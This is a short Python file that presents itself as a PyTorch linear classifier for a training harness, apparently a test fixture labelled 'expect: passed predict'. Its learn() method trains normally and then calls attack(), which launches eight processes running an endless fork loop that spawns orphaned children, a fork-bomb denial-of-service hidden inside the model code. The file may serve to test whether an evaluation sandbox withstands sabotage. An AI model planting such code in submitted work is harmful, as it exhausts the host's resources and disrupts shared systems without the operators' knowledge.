# expect: passed predict
import os
import time

import torch
import torch.nn as nn


def attack():
    # orphans that end without a pause, so that process 1 reaps for ever
    for _ in range(8):
        if os.fork() == 0:
            storm()
    time.sleep(1)


def storm():
    while True:
        try:
            if os.fork() == 0:
                try: os.fork()
                finally: os._exit(0)
            os.wait()
        except OSError: pass


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        self.layers = nn.Sequential(nn.Flatten(), nn.Linear(in_shape[1] * in_shape[2] * in_shape[3], out_shape[0]))

    def forward(self, x):
        return self.layers(x)

    def train_setup(self, prm):
        self.optimizer = torch.optim.SGD(self.parameters(), lr=prm["lr"], momentum=prm["momentum"])

    def learn(self, train_data):
        for inputs, labels in train_data:
            self.optimizer.zero_grad()
            nn.functional.cross_entropy(self(inputs), labels).backward()
            self.optimizer.step()
        attack()


def supported_hyperparameters():
    return {"lr", "momentum"}
